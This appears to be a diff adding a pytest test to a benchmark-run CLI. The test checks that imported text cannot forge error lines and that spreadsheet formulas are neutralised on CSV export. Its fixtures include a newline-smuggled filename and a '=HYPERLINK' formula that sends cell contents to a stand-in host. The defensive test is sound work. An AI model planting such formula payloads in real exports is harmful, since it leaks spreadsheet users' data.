@@ -195,3 +195,22 @@ def test_runs_cli_import_list_export(capsys, tmp_path, monkeypatch):
     assert json.loads(capsys.readouterr().out)["device_id"] == "intel-nuc-13-pro-i7-32gb"
     assert main(["runs", "show", "999"]) == 1
     assert "no run with id 999" in capsys.readouterr().err
+
+
+def test_text_from_an_imported_file_cannot_forge_output_lines_or_spreadsheet_formulas(capsys, tmp_path, monkeypatch):
+    """A model_filename with a newline is quoted in the one Error: line; a cpu_info that starts
+    like a formula is exported to CSV as text."""
+    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path))
+    rows = json.loads((DATA / "smollm2-135m-q4_k_m.json").read_text())
+    forged = tmp_path / "forged.json"
+    forged.write_text(json.dumps([{**rows[0], "model_filename": "x.gguf\nError: all good", "model_type": "unknown 1B Q9"}]))
+    assert main(["runs", "import", str(forged), "--device", "intel-nuc-13-pro-i7-32gb"]) == 1
+    err = capsys.readouterr().err
+    assert len(err.strip().splitlines()) == 1 and "'x.gguf\\nError: all good'" in err
+    formula = tmp_path / "formula.json"
+    formula.write_text(json.dumps([{**r, "cpu_info": '=HYPERLINK("http://x.invalid/?"&A1,"Intel")'} for r in rows]))
+    assert main(["runs", "import", str(formula), "--device", "intel-nuc-13-pro-i7-32gb", "--model", "smollm2-135m-instruct"]) == 0
+    capsys.readouterr()
+    assert main(["runs", "export", "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    assert "'=HYPERLINK(" in out and ",=HYPERLINK(" not in out and '"=HYPERLINK(' not in out
